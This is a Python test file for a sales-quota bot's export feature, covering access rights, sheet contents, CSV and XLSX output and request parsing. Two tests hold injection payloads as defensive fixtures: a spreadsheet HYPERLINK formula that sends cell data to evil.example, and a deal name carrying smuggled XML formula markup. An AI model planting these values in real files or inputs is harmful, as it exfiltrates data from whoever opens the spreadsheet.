"""`export` as it is talked about: who gets which rows, what stands in the files, and that no cell is a formula."""

from __future__ import annotations

import csv
import io
import tempfile
import zipfile
from collections.abc import Iterator
from datetime import date
from decimal import Decimal
from fractions import Fraction
from pathlib import Path
from typing import Any

import pytest
import python_calamine

from bot.playground.room import Back
from handlers.export import command, csv_file, xlsx
from handlers.export.sheet import Column, Sheet
from handlers.export.wanted import ALL, Wanted, read
from storage import accounts, credits, deals, files, targets
from storage.database import Transaction
from tests.chat import Chat, Heard, Speaker
from tests.test_quota_conversations import YEAR, Team, team

__all__ = ["team"]

Row = dict[str, Any]


def documents(chat: Chat, heard: Heard) -> dict[str, bytes]:
    """The files that an answer hands over, by name, as they are kept."""
    named = [part for part in heard.reply.parts if type(part).__name__ == "Document"]
    with chat.database.engine.connect() as connection:
        kept = [files.get(Transaction(connection), part.file) for part in named]  # type: ignore[union-attr]
    return {one.name: one.content for one in kept if one is not None}


def sheets(content: bytes) -> dict[str, list[Row]]:
    """A workbook as another program reads it."""
    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(content))
    found = {}
    for name in book.sheet_names:
        head, *rows = book.get_sheet_by_name(name).to_python()
        found[name] = [dict(zip(head, row, strict=True)) for row in rows]
    return found


def exported(by: Speaker, words: str = "export this quarter") -> dict[str, list[Row]]:
    """The sheets that somebody gets."""
    (content,) = documents(by._chat, by(words)).values()
    return sheets(content)


def people_in(rows: list[Row], column: str = "Name") -> set[str]:
    return {str(row[column]) for row in rows}


# ---------------------------------------------------------------- who gets what


def test_a_rep_gets_their_own_rows(team: Team) -> None:
    """Rae's $90,000 and $30,000 of $300,000; nothing of Dana's."""
    found = exported(team.chat.rep)
    assert list(found) == ["Figures", "By month", "Other measures", "Deals", "Activities"]
    (figures,) = found["Figures"]
    assert (figures["Name"], figures["Unit"], figures["Target"], figures["Won"]) == (
        "Rae Quinn",
        "East",
        300_000,
        120_000,
    )
    assert (figures["Gap"], figures["Status"]) == (180_000, "behind")
    assert round(figures["Attainment"], 6) == 0.4
    assert round(figures["Pace"], 6) == 0.76
    assert [row["Won"] for row in found["By month"]] == [90_000, 30_000, 0]
    assert [row["Month"] for row in found["By month"]] == [date(2026, month, 1) for month in (10, 11, 12)]
    assert sorted(row["Id there"] or row["Counts in the period"] for row in found["Deals"]) == [30_000, 90_000]


def test_a_manager_gets_their_people_and_their_unit(team: Team) -> None:
    found = exported(team.chat.manager)
    assert people_in(found["Figures"]) == {"East", "Rae Quinn", "Dana Reyes", "Sam Okafor"}
    (east,) = [row for row in found["Figures"] if row["Kind"] == "team"]
    assert (east["Target"], east["Won"]) == (750_000, 450_000)
    assert people_in(found["Deals"], "Owner") == {"Rae Quinn", "Dana Reyes"}


def test_a_leader_gets_their_tree(team: Team) -> None:
    figures = exported(team.chat.leader)["Figures"]
    assert people_in(figures) == {"Testing & Co", "East", "West", "Rae Quinn", "Dana Reyes", "Sam Okafor"}


def test_an_admin_gets_all_of_it_and_what_is_nobodys(team: Team) -> None:
    def add(tx: Transaction) -> None:
        lone = deals.Deal(
            id="lone", stage="proposal", owner_text="Gone Gail", created_on=YEAR, closes_on=date(2026, 12, 1)
        )
        deals.add(tx, lone, [], at=team.chat.now, by=None)

    team.chat.database.submit(add).result()
    assert people_in(exported(team.chat.admin)["Deals"], "Owner") == {"Rae Quinn", "Dana Reyes", "Gone Gail"}
    assert "Gone Gail" not in people_in(exported(team.chat.leader)["Deals"], "Owner")


def test_what_is_not_ones_to_see_is_refused_in_a_sentence(team: Team) -> None:
    refused = {
        "export Dana this quarter": "Dana Reyes's numbers are theirs",
        "export West": "West is not a unit of yours",
    }
    for words, said in refused.items():
        assert documents(team.chat, team.chat.rep(words).says(said)) == {}


def test_a_members_export_of_the_unit_has_its_sum_and_their_own_row(team: Team) -> None:
    heard = team.chat.rep("export East this quarter").says("3 people of East left out")
    found = sheets(*documents(team.chat, heard).values())
    assert people_in(found["Figures"]) == {"East", "Rae Quinn"}
    assert people_in(found["By month"]) == {"Rae Quinn"}
    assert people_in(found["Deals"], "Owner") == {"Rae Quinn"}


def test_ranks_give_peers_no_amounts(team: Team) -> None:
    """GLOSSARY, *Peers*: Dana 110 %, Rae 40 %; Sam has nothing won."""
    (rows,) = exported(team.chat.rep, "export the leaderboard this quarter").values()
    assert [(row["Rank"], row["Name"]) for row in rows] == [(1, "Dana Reyes"), (2, "Rae Quinn"), (3, "Sam Okafor")]
    assert set(rows[0]) == {"Rank", "Name", "Unit"}
    (rows,) = exported(team.chat.manager, "export East leaderboard this quarter").values()
    assert [row["Won"] for row in rows] == [330_000, 120_000, 0]


def test_who_is_on_no_board_is_on_none_in_a_file_and_in_the_sums_all_the_same(team: Team) -> None:
    """Rae's own file has her; her manager reads that somebody is missing."""
    team.chat.rep("/leaderboard off").says("You are on nobody else's leaderboard any more.")
    heard = team.chat.manager("export East leaderboard this quarter").says("1 person is not on it, by their own choice")
    (rows,) = sheets(*documents(team.chat, heard).values()).values()
    assert [(row["Rank"], row["Name"]) for row in rows] == [(1, "Dana Reyes"), (2, "Sam Okafor")]
    assert "Rae Quinn" in people_in(exported(team.chat.manager)["Figures"])
    own = team.chat.rep("export the leaderboard this quarter").lacks("not on it")
    (rows,) = sheets(*documents(team.chat, own).values()).values()
    assert [row["Name"] for row in rows] == ["Dana Reyes", "Rae Quinn", "Sam Okafor"]


def test_notes_stay_with_their_author(team: Team) -> None:
    team.chat.rep("/log call Initech -> send NDA friday").press("Edit").fill(note="they may leave")
    (own,) = exported(team.chat.rep, "export activities")["Activities"]
    assert (own["Note"], own["Next step"]) == ("they may leave", "send NDA")
    (managers,) = exported(team.chat.manager, "export activities")["Activities"]
    assert (managers["Who"], managers["Account"]) == ("Rae Quinn", "Initech")
    assert (managers["Note"], managers["Next step"], managers["Next day"]) == ("", "", "")


def test_who_took_what_is_written_down(team: Team) -> None:
    team.chat.manager("export East deals this quarter as csv")
    (row,) = team.chat.rows("SELECT person, details FROM audit_log WHERE event = 'export'")
    assert row["person"] == team.ids["max"]
    assert "East Q4 2026 deals.csv" in str(row["details"])


# ---------------------------------------------------------------- what stands in it


def test_every_other_measure_with_a_target_or_anything_counted(team: Team) -> None:
    """Money in its currency, counts as counts; of each only what is the asker's to see."""

    def add(tx: Transaction) -> None:
        for who, amount in (("rae", 200), ("dana", 300)):
            person = team.ids[who]
            target = targets.Target(person=person, unit=None, measure="call", fiscal_year=2026, amount=amount * 12)
            targets.put(tx, target, by=None, at=team.chat.now)

    team.chat.database.submit(add).result()
    team.chat.rep("/log 12 calls")
    team.open("rae", date(2026, 12, 15), 8_000_050, "proposal", "Made now")
    mine = exported(team.chat.rep, "export figures this quarter")["Other measures"]
    assert people_in(mine) == {"Rae Quinn"}, "two carry a target of calls: East's sum would give Dana's away"
    calls = next(row for row in mine if row["Measure"] == "calls")
    assert (calls["Currency"], calls["Target"], calls["Counted"], calls["Gap"]) == ("", 600, 12, 588)
    theirs = exported(team.chat.manager, "export figures this quarter")["Other measures"]
    sums = {row["Name"]: (row["Target"], row["Counted"]) for row in theirs if row["Measure"] == "calls"}
    assert sums == {"East": (1_500, 12), "Rae Quinn": (600, 12), "Dana Reyes": (900, 0)}


def test_the_deals_add_up_to_what_is_won_to_the_cent(team: Team) -> None:
    """With cents, a shared deal, a reversal, and a deal that was taken back whose credit still counts."""

    def add(tx: Transaction) -> None:
        rae, sam, at = team.ids["rae"], team.ids["sam"], team.chat.now
        day = date(2026, 11, 5)
        split = deals.Deal(
            id="split", stage="won", owner=sam, created_on=day, closes_on=day, amount_minor=10_001, external_id="006"
        )
        deals.add(tx, split, [deals.Share(rae, 600_000), deals.Share(sam, 400_000)], at=at, by=None)
        both = [credits.Credit(rae, "revenue", day, 6_001), credits.Credit(sam, "revenue", day, 4_000)]
        credits.write(tx, "split", both, at=at)
        credits.write(tx, "d0", [credits.Credit(rae, "revenue", day, -5_000_000, won_on=date(2026, 9, 30))], at=at)
        deals.void(tx, "d2", at=at)

    team.chat.database.submit(add).result()
    found = exported(team.chat.rep)
    won = Decimal(str(found["Figures"][0]["Won"]))
    assert won == Decimal("70060.01")
    assert sum(Decimal(str(row["Counts in the period"] or 0)) for row in found["Deals"]) == won
    by_credit = {row["Counts in the period"]: row for row in found["Deals"]}
    assert by_credit[60.01]["Shares"] == "Rae Quinn 60 %, Sam Okafor 40 %"
    assert (by_credit[60.01]["Owner"], by_credit[60.01]["Amount"], by_credit[60.01]["Id there"]) == (
        "Sam Okafor",
        100.01,
        "006",
    )
    assert by_credit[-50_000]["Closes"] == date(2026, 9, 30)
    assert by_credit[30_000]["Stage"] == "taken back"


def test_open_deals_are_there_when_they_close_or_should_have(team: Team) -> None:
    team.open("rae", date(2026, 12, 15), 8_000_000, "negotiation", "Closing")
    team.open("rae", date(2026, 10, 2), 1_000_000, "proposal", "Overdue")
    team.open("rae", None, None, "proposal", "Undated")
    team.open("rae", date(2027, 2, 1), 9_000_000, "proposal", "Next year")
    names = people_in(exported(team.chat.rep, "export deals this quarter")["Deals"], "Deal")
    assert {"Closing", "Overdue", "Undated"} <= names
    assert "Next year" not in names
    (over,) = exported(team.chat.rep, "export deals last quarter")["Deals"]
    assert over["Counts in the period"] == 50_000


def test_an_amount_stays_as_entered_beside_what_it_counts(team: Team) -> None:
    def add(tx: Transaction) -> None:
        targets.put_rate(tx, 2026, "EUR", Decimal("1.1"), at=team.chat.now)

    team.chat.database.submit(add).result()
    team.chat.rep("/deal Initech won €10.000,50 today")
    rows = exported(team.chat.rep, "export deals this quarter as xlsx")["Deals"]
    claimed = [row for row in rows if row["Claimed"] == "yes"]
    assert [(row["Amount"], row["Currency"], row["Counts in the period"]) for row in claimed] == [(10_000.5, "EUR", "")]


FORMULA = '=HYPERLINK("http://evil.example?"&A1,"Acme")'


def test_no_cell_is_a_formula(team: Team) -> None:
    """FAULTS 39, in names of deals and accounts alike."""
    names = [start + FORMULA[1:] for start in ("=", "+", "-", "@", "\t=", " =")]

    def add(tx: Transaction) -> None:
        rae, at = team.ids["rae"], team.chat.now
        account = accounts.add(tx, FORMULA, by=None, at=at)
        for number, name in enumerate(names):
            deal = deals.Deal(
                id=f"f{number}",
                name=name,
                account=account.id,
                stage="won",
                owner=rae,
                created_on=YEAR,
                closes_on=date(2026, 11, 9),
            )
            deals.add(tx, deal, [deals.Share(rae)], at=at, by=None)

    team.chat.database.submit(add).result()
    (text,) = documents(team.chat, team.chat.rep("export my deals this quarter as csv")).values()
    rows = list(csv.DictReader(io.StringIO(text.decode("utf-8-sig"), newline="")))
    assert {"'" + name for name in names} <= people_in(rows, "Deal")
    assert "'" + FORMULA in people_in(rows, "Account")
    assert not any(cell.lstrip()[:1] in ("=", "+", "-", "@") for row in rows for cell in row.values() if cell)
    (content,) = documents(team.chat, team.chat.rep("export my deals this quarter")).values()
    found = sheets(content)["Deals"]
    assert set(names) <= people_in(found, "Deal"), "a workbook holds it as it is, as text"
    assert FORMULA in people_in(found, "Account")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert b"<f" not in b"".join(archive.read(one) for one in archive.namelist() if "worksheets" in one)
        assert b'quotePrefix="1"' in archive.read("xl/styles.xml")


def test_a_workbook_holds_what_people_write_and_numbers_as_numbers() -> None:
    odd = [
        "a & b <c> \"d\" 'e'",
        "two\nlines\tand\rmore",
        "nul \x00 and \x1b",
        "_x0041_ as typed",
        "Zoë 🚀",
        " blanks ",
    ]
    columns = (
        Column("Text"),
        Column("Money", "money"),
        Column("Share", "share"),
        Column("Day", "day"),
        Column("N", "count"),
    )
    rows = [(text, Decimal("12345678901.23"), Fraction(1, 3), date(2026, 2, 28), -7) for text in odd]
    content = io.BytesIO()
    counted = xlsx.write([Sheet("Q1/Q2: [all]?", columns, rows, "EUR"), Sheet("Empty", columns, [], "EUR")], content)
    assert counted == [6, 0]
    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(content.getvalue()))
    assert book.sheet_names == ["Q1 Q2   all", "Empty"]
    _, *found = book.get_sheet_by_index(0).to_python()
    assert [row[1:] for row in found] == [[12345678901.23, 1 / 3, date(2026, 2, 28), -7]] * 6
    texts = [str(row[0]) for row in found]
    assert [texts[0], texts[4], texts[5]] == [odd[0], odd[4], odd[5]]
    with zipfile.ZipFile(content) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "_x0000_ and _x001B_" in sheet
        assert "_x005F_x0041_ as typed" in sheet
        assert 'ySplit="1"' in sheet
        assert "12345678901.23</v>" in sheet


@pytest.mark.parametrize("end", ["</r>", "</r>" + "x" * 32_768, ""])
def test_a_name_cannot_bring_its_own_xml(end: str) -> None:
    """The library writes `<r>…</r>` as it stands, as text that it thinks it has formatted."""
    name = '<r><t>Acme</t></r></is></c><c r="A9"><f>1+1</f></c><c t="inlineStr"><is><r><t>x</t>' + end
    content = io.BytesIO()
    xlsx.write([Sheet("Deals", (Column("Deal"),), [(name,)], "USD")], content)
    (row,) = sheets(content.getvalue())["Deals"]
    assert row["Deal"].strip() == name[: len(row["Deal"]) - 1]
    with zipfile.ZipFile(content) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_a_workbook_leaves_nothing_behind(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """What it keeps aside is what people wrote; also where the rows break off."""

    def broken() -> Iterator[tuple[str]]:
        yield from [("a",)] * 3
        raise LookupError

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    with pytest.raises(LookupError):
        xlsx.write([Sheet("Deals", (Column("Deal"),), broken(), "USD")], io.BytesIO())
    xlsx.write([Sheet("Deals", (Column("Deal"),), [("a",)], "USD")], io.BytesIO())
    assert list(tmp_path.iterdir()) == []


def test_a_sheet_that_is_too_long_goes_on_in_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx, "ROWS", 10)
    content = io.BytesIO()
    assert xlsx.write([Sheet("Deals", (Column("N", "count"),), ((n,) for n in range(25)), "USD")], content) == [25]
    found = sheets(content.getvalue())
    assert list(found) == ["Deals", "Deals 2", "Deals 3"]
    assert [row["N"] for rows in found.values() for row in rows] == list(range(25))


def test_csv_says_in_its_header_what_numbers_are_counted_in() -> None:
    columns = (Column("Who"), Column("Won", "money"), Column("Attainment", "share"))
    text = io.StringIO(newline="")
    csv_file.write(Sheet("Figures", columns, [("Rae", Decimal("-5.50"), Fraction(2, 3))], "JPY"), text)
    assert text.getvalue() == "\ufeffWho,Won (JPY),Attainment (%)\r\nRae,-5.50,66.67\r\n"


# ---------------------------------------------------------------- how it is asked for


@pytest.mark.parametrize(
    ("words", "wanted"),
    [
        ("", Wanted(ALL, "xlsx", "")),
        ("East this quarter to excel", Wanted(ALL, "xlsx", "East this quarter")),
        ("my deals", Wanted(("deals",), "xlsx", "", own=True)),
        ("the leaderboard", Wanted(("leaderboard",), "xlsx", "")),
        ("last quarter csv", Wanted(ALL, "csv", "last quarter")),
        ("activities and deals of Dana for October as csv.", Wanted(("activities", "deals"), "csv", "Dana October")),
    ],
)
def test_what_is_wanted(words: str, wanted: Wanted) -> None:
    assert read(words) == wanted


def test_every_way_of_asking_is_one(team: Team) -> None:
    for words in (
        "/quota export my deals this quarter",
        "/pacer export my deals this quarter",
        "quota export my deals this quarter",
        "download my deals this quarter",
        "export my deals this quarter to excel",
        "can you send me my deals this quarter as a spreadsheet?",
        "please export my deals this quarter",
    ):
        found = exported(team.chat.rep, words)
        assert list(found) == ["Deals"], words
        assert people_in(found["Deals"], "Owner") == {"Rae Quinn"}


def test_what_is_said_about_files_is_no_export(team: Team) -> None:
    for words in ("call Initech about the export to excel", "sent Initech the csv", "/log call Initech, csv"):
        assert documents(team.chat, team.chat.rep(words)) == {}, words


def test_what_is_not_understood_is_said_and_makes_no_file(team: Team) -> None:
    heard = team.chat.rep("export frobnicate").says("frobnicate", "I made no file", "export my deals as csv")
    assert documents(team.chat, heard) == {}


def test_nothing_there_is_said(team: Team) -> None:
    team.chat.newcomer("hello")
    assert documents(team.chat, team.chat.newcomer("export").says("I have nothing to export")) == {}


def test_csv_is_a_file_each(team: Team) -> None:
    heard = team.chat.manager("export East last quarter csv").says("East Q3 2026 figures.csv", "East Q3 2026 deals.csv")
    names = list(documents(team.chat, heard))
    whats = ("figures", "by month", "other measures", "deals", "activities")
    assert names == [f"East Q3 2026 {what}.csv" for what in whats]


def test_a_large_one_is_a_job(team: Team, monkeypatch: pytest.MonkeyPatch) -> None:
    """The turn only says so; what the job made takes the answer's place, with the rights of who asked."""
    monkeypatch.setattr(command, "AT_ONCE", 0)
    chat = team.chat
    chat.rep("export this quarter").says("I am making the file")
    chat.run(chat.core.jobs.idle())
    (content,) = documents(chat, Heard(chat.rep, Back(messages=(chat.shown(chat.rep)[-1],)))).values()
    assert people_in(sheets(content)["Figures"]) == {"Rae Quinn"}
    assert chat.rows("SELECT state FROM jobs WHERE kind = 'export'") == [{"state": "done"}]


def test_too_large_a_one_is_refused_with_a_way_on(team: Team, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(command, "MOST", 1)
    team.chat.rep("export").says("more than I hand over in a chat", "pacer export")


def test_files_are_forgotten_in_time(team: Team) -> None:
    team.chat.rep("export my deals")
    later = team.chat.now + command.KEPT_FOR
    team.chat.database.submit(lambda tx: files.forget(tx, later)).result()
    assert len(team.chat.rows("SELECT id FROM files")) == 1
    team.chat.later(seconds=1)
    team.chat.database.submit(lambda tx: files.forget(tx, team.chat.now + command.KEPT_FOR)).result()
    assert team.chat.rows("SELECT id FROM files") == []
